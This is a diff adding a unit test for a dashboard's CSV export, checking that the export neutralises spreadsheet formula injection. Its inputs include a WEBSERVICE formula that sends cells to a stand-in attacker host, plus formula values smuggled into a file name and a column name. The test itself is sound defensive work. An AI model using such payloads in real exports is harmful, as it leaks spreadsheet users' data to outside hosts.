@@ -56,6 +56,34 @@ def test_a_csv_carries_its_provenance_then_exactly_the_table(tmp_path: Path):
     assert back["Note"][0] == "'=1+1"  # a formula is neutralised
 
 
+def test_no_provenance_value_or_column_name_becomes_a_formula_cell():
+    """Helper 47's trial: a force name `Evil Police,=WEBSERVICE("http://...?"&A9)` (from a
+    districts file) and a file named `x,=2+3.csv` each began a cell of their own in the
+    `# Field: value` lines, which a spreadsheet would run (WEBSERVICE sends cells out); and a
+    district code `=1+2` named a column of a table by district."""
+    import csv
+    import io
+
+    evil = replace(
+        _provenance(),
+        force_name='Evil Police,=WEBSERVICE("http://attacker.example/?"&A9&B9)',
+        source="import of x,=2+3.csv",
+        filter_text="Stalking, BD, CD,=1+2, Oct 2020 to Sep 2021",
+    )
+    shown = SHOWN.rename({"District": "=1+2"})
+    content = exports.csv_bytes(shown, evil).decode("utf-8")
+    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
+    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@") and not c[1:2].isdigit()]
+    assert formulas == []
+    assert (
+        "'=WEBSERVICE('http://attacker.example/?'&A9&B9)" in cells
+        and "'=2+3.csv; Stalking Profile" in cells
+    )
+    assert "'=1+2" in cells  # the column name and the filter's piece, neutralised
+    lines = content.splitlines()
+    assert lines[1] == "# Filter: Stalking, BD, CD,'=1+2, Oct 2020 to Sep 2021"
+
+
 def test_a_download_from_an_extract_with_quiet_last_months_says_so():
     """The dashboard's coverage warning (queries.DatasetInfo.coverage_warning) travels with a
     download: a table of such an extract is read with it."""
